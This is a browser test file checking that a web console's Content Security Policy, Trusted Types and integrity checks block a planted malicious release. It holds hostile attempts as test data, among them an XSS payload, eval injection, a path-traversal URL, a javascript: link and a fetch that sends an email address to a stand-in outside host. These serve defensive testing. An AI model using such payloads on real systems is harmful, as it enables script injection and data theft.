import { createHash } from 'node:crypto';
import { consoleUnderTest } from '@console/testing/browser';
import bcd from '@mdn/browser-compat-data';
import type { BrowserContext } from 'playwright-core';
import { UNMATCHABLE_INTEGRITY } from '../src/remotes/runtime/unmatchableIntegrity';

const violations: string[] = [];
const waiting = new Set<() => void>();
const { open } = consoleUnderTest('composed', {
  onViolation: (line) => {
    violations.push(line);
    for (const look of waiting) look();
  },
});

/** Resolves once this many matching lines were reported: browsers send reports with a delay. */
function reported(line: RegExp, times: number): Promise<void> {
  return new Promise((resolve) => {
    const look = () => {
      if (violations.filter((one) => line.test(one)).length >= times) resolve();
    };
    waiting.add(look);
    look();
  });
}

beforeEach(() => {
  violations.length = 0;
  waiting.clear();
});

const integrity = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

/** Expected log lines of refused attempts, including our own error for an address that is not a file of the console. */
const refused =
  /Content Security Policy|TrustedHTML|TrustedScript|Integrity-Policy|not a file of this console|could not|stopped/i;

type Deed = [name: string, code: string, outcome: string];

/** Plants a release of mf-clients, listed with its hash like a real one, that makes all these attempts as soon as it runs. */
async function plant(context: BrowserContext, deeds: Deed[]) {
  const tried = deeds.map(
    ([name, code]) => `(async () => {
      try { ${code}; return [${JSON.stringify(name)}, 'done']; }
      catch (error) { return [${JSON.stringify(name)}, error.name]; }
    })()`,
  );
  const script = `var mf_planted = { init() {}, get() {
    window.outcomes = Promise.all([${tried.join()}]);
    return Promise.resolve(() => ({}));
  } };`;
  await context.route('**/remotes/mf-clients/release.json', async (route) => {
    const reply = await route.fetch({ maxRetries: 1 });
    const released: { entry: object } = await reply.json();
    const entry = { ...released.entry, integrity: integrity(script) };
    await route.fulfill({ json: { ...released, container: 'mf_planted', preload: [], entry } });
  });
  await context.route('**/remotes/mf-clients/remoteEntry*.js', (route) =>
    route.fulfill({ body: script, contentType: 'text/javascript' }),
  );
  await context.route('**/unhashed.01234567.js', (route) =>
    route.fulfill({ body: 'window.ran = "of the release"', contentType: 'text/javascript' }),
  );
  await context.route('https://elsewhere.example/**', (route) =>
    route.fulfill({ body: 'window.ran = "from elsewhere"', contentType: 'text/javascript' }),
  );
}

const script = (set: string) =>
  `const element = document.createElement('script'); ${set}; document.head.append(element)`;

const unhashed = 'window.__CONSOLE_SCRIPTS__.trusted("/remotes/mf-clients/unhashed.01234567.js")';

const sink = (name: string) => `require-trusted-types-for blocked=trusted-types-sink:${name}`;

/** Attempts that our own policy refuses, with their outcomes. */
const thrownAt: Deed[] = [
  ...[
    'https://elsewhere.example/a.js',
    '/static/../api/a.js',
    // A server decodes it and goes up.
    '/static/..%2fremotes/mf-never/a.js',
    // No area of this name is registered.
    '/remotes/mf-never/a.js',
  ].map((address): Deed => {
    const set = `element.src = window.__CONSOLE_SCRIPTS__.trusted("${address}")`;
    return [`the script ${address} through the console’s own policy`, script(set), 'TypeError'];
  }),
  [
    'to allow another folder for scripts',
    'window.__CONSOLE_SCRIPTS__.takeAllow()("https://elsewhere.example/")',
    'TypeError',
  ],
  [
    'to replace the check of scripts',
    'Object.defineProperty(window.__CONSOLE_SCRIPTS__, "trusted", { value: (address) => address })',
    'TypeError',
  ],
  [
    'to replace all of the console’s policy',
    '(() => { "use strict"; window.__CONSOLE_SCRIPTS__ = {}; })()',
    'TypeError',
  ],
  [
    'a worker from a file without a hash',
    `await window.__CONSOLE_SCRIPTS__.worker({ url: ${unhashed}, integrity: "" })`,
    'TypeError',
  ],
];

/** Attempts that the browser blocks, with their outcomes and reports. */
const reportedOf: [...Deed, report: string][] = [
  [
    'text as markup',
    'document.body.innerHTML = "<img src=x onerror=window.ran=`by markup`>"',
    'TypeError',
    sink('Element.innerHTML'),
  ],
  ['text as code', 'eval("window.ran = `by eval`")', 'EvalError', sink('eval')],
  [
    'a script by address',
    script('element.src = "https://elsewhere.example/a.js"'),
    'TypeError',
    sink('HTMLScriptElement.src'),
  ],
  [
    'a script of its release without a hash',
    script(`element.crossOrigin = "anonymous"; element.src = ${unhashed}`),
    'done',
    'integrity-policy blocked=/remotes/mf-clients/unhashed.01234567.js',
  ],
  [
    'a worker from an unchecked file',
    `new Worker(${unhashed})`,
    'done',
    'worker-src blocked=/remotes/mf-clients/unhashed.01234567.js',
  ],
  [
    'an inline script',
    script('element.text = "window.ran = `in the page`"'),
    'TypeError',
    sink('HTMLScriptElement.text'),
  ],
  [
    'its own Trusted Types policy',
    'window.trustedTypes.createPolicy("anything", { createHTML: (text) => text })',
    'TypeError',
    'trusted-types blocked=trusted-types-policy',
  ],
  [
    'a second policy with the console’s name',
    'window.trustedTypes.createPolicy("console", { createScriptURL: (text) => text })',
    'TypeError',
    'trusted-types blocked=trusted-types-policy',
  ],
  [
    'a style element',
    'const style = document.createElement("style"); style.append("body { display: none }"); document.head.append(style)',
    'done',
    'style-src-elem blocked=inline',
  ],
  [
    'a javascript: address',
    'const link = document.createElement("a"); link.href = "javascript:window.ran = `by an address`"; document.body.append(link); link.click()',
    'done',
    'script-src-elem blocked=inline',
  ],
  [
    'to send what it sees elsewhere',
    'fetch("https://elsewhere.example/seen?email=jane.doe@example.com").catch(() => undefined)',
    'done',
    'connect-src blocked=https://elsewhere.example',
  ],
];

/** Lets a release make all these attempts, and checks their outcomes. */
async function tryAll(deeds: Deed[]) {
  const page = await open({
    path: '/dashboard/clients',
    prepare: (context) => plant(context, deeds),
    expectedProblems: refused,
  });
  await page.waitForFunction(() => 'outcomes' in window);
  // The rest of the console still works, and none of the attempts has succeeded by then.
  await page.getByRole('link', { name: 'OEMs' }).click();
  await page.getByRole('heading', { level: 1, name: 'OEMs' }).waitFor();
  const seen = await page.evaluate(async () => ({
    outcomes: Object.fromEntries(await Reflect.get(window, 'outcomes')),
    ran: Reflect.get(window, 'ran'),
    shown: getComputedStyle(document.body).display,
  }));
  const outcomes = Object.fromEntries(deeds.map(([name, , outcome]) => [name, outcome]));
  expect(seen).toEqual({ outcomes, ran: undefined, shown: 'block' });
}

it('attempts of a release against the console’s policy are refused', async () => {
  await tryAll(thrownAt);
  expect(violations).toEqual([]);
});

it('attempts of a release against the content security policy are blocked and reported', async () => {
  await tryAll(reportedOf.map(([name, code, outcome]) => [name, code, outcome]));
  const reports = reportedOf.map(([, , , report]) => report);
  for (const report of new Set(reports)) {
    const times = reports.filter((other) => other === report).length;
    await reported(new RegExp(`^violation directive=${report.replaceAll('.', '\\.')} `), times);
  }
  // The report names the release by its file, whose name contains the hash of its content.
  for (const line of violations) expect(line).toMatch(/ release=(mf-clients\/[a-zA-Z.]+[0-9a-f]{8}\.js|-)$/);
});

it.each([
  ['of its own', integrity('window.ran = true'), 'load true'],
  ['unmatchable', UNMATCHABLE_INTEGRITY, 'error false'],
])(
  'without a policy that requires integrity, a script with the integrity %s ends in: %s',
  async (_, wanted, outcome) => {
    const page = await open({
      prepare: (context) =>
        context.route('https://bare.example/**', (route) =>
          route.fulfill(
            route.request().resourceType() === 'script'
              ? { body: 'window.ran = true', contentType: 'text/javascript' }
              : { body: '<!doctype html><title>Bare</title>', contentType: 'text/html' },
          ),
        ),
      expectedProblems: /integrity/i,
    });
    await page.goto('https://bare.example/');
    const ended = await page.evaluate(
      (value) =>
        new Promise<string>((resolve) => {
          const element = document.createElement('script');
          element.integrity = value;
          for (const end of ['load', 'error'])
            element.addEventListener(end, () => resolve(`${end} ${'ran' in window}`));
          element.src = '/a.js';
          document.head.append(element);
        }),
      wanted,
    );
    expect(ended).toBe(outcome);
  },
);

it('a file opened as a document may do nothing, whatever its type', async () => {
  const answered: string[] = [];
  const page = await open({ expectedProblems: /./ });
  await page.route('**/config.json', async (route) => {
    const reply = await route.fetch({ maxRetries: 1 });
    await route.fulfill({
      headers: { ...reply.headers(), 'content-type': 'image/svg+xml' },
      body: `<svg xmlns="http://www.w3.org/2000/svg"><title>Opened</title>
        <image href="/picture.png"/><script>fetch('/script.json')</script></svg>`,
    });
  });
  page.on('requestfinished', (request) => answered.push(new URL(request.url()).pathname));
  await page.goto('/config.json', { waitUntil: 'networkidle' });
  expect(await page.title()).toBe('Opened');
  expect(answered).toContain('/config.json');
  expect(answered).not.toContain('/picture.png');
  expect(answered).not.toContain('/script.json');
});

it('no released browser can require hashes of style sheets; once one can, Integrity-Policy must cover them', () => {
  const known =
    bcd.http.headers?.['Integrity-Policy']?.['blocked-destinations_style']?.__compat?.support ?? {};
  const ships = Object.values(known)
    .flatMap((support) => support ?? [])
    .filter(({ version_added, flags }) => version_added !== false && !flags);
  expect(Object.keys(known)).toContain('chrome');
  expect(ships).toEqual([]);
});
